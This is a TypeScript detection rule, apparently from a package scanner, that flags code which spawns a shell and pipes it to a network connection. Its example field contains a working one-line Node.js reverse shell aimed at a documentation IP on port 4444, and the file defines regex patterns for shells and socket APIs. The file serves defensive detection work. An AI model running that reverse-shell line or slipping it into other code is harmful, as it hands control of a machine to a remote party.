import type { Rule, Sighting } from "../rule.ts";
import { areTogether, placeOf } from "../view.ts";

export const opensRemoteShell: Rule = {
  id: "opens-remote-shell",
  title: "Connects a shell to the network",
  why: "A shell whose input and output are a network connection is in somebody else's hands.",
  example:
    'const s = net.connect(4444, "198.51.100.7"); const sh = spawn("/bin/sh"); s.pipe(sh.stdin); sh.stdout.pipe(s);',
  advice: "Do not install it. A machine where it has run is no longer only yours.",
  severity: "critical",
  confidence: "high",
  look: (view) =>
    view.spawns.flatMap((use): readonly Sighting[] => {
      const isShell = view.commandsOf(use).some((command) => SHELL.test(command));
      if (!isShell) return [];
      const socket = view
        .usesOf(use.module)
        .find(
          (other) => SOCKET.test(other.path) && areTogether(other.call.scope.fn, use.call.scope.fn),
        );
      if (socket === undefined || !/\.pipe\(|\.stdin\.write\(/.test(use.module.text)) return [];
      const [host = "an address that is not written out"] = view.hostsOf(socket);
      return [
        { place: placeOf(use), message: `A shell is started beside a connection to ${host}.` },
      ];
    }),
};

const SHELL =
  /^(?:\/(?:usr\/)?bin\/)?(?:sh|bash|zsh|cmd(?:\.exe)?|powershell(?:\.exe)?)(?:\s+-i)?$/i;
const SOCKET =
  /^(?:net\.(?:connect|createConnection|Socket\(\)\.connect)|tls\.connect|WebSocket|ws|socket\.io-client)$/;
